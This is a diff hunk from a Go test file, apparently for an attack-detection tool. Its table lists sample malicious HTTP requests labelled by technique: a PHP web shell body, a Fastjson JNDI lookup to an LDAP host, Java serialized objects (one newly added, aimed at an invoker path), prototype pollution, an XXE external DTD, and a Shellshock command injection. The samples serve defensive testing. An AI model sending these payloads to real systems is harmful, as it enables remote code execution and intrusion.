@@ -75,6 +75,7 @@ func TestTechniques(t *testing.T) {
 		{Code, post("/c.php", form, "ant="+url.QueryEscape(`@ini_set("display_errors", "0");@set_time_limit(0);`+strings.Repeat("function asenc($out){return $out;}", 20)))},
 		{Object, post("/j", jsonType, `{"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://192.0.2.1/E"}}`)},
 		{Object, post("/rpc", "application/octet-stream", "\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\x00\x00")},
+		{Object, post("/invoker/readonly", "application/octet-stream", "\xac\xed\x00\x05sr\x00\x11java.util.HashSet")},
 		{Object, post("/j", jsonType, `{"__proto__":{"isAdmin":true}}`)},
 		{Entity, post("/x", "text/xml", `<!DOCTYPE foo SYSTEM "http://192.0.2.1/x.dtd"><a/>`)},
 		{Shellshock, "GET /cgi-bin/a HTTP/1.1\r\nHost: a\r\nUser-Agent: () { 42;};echo;/usr/bin/id\r\n\r\n"},
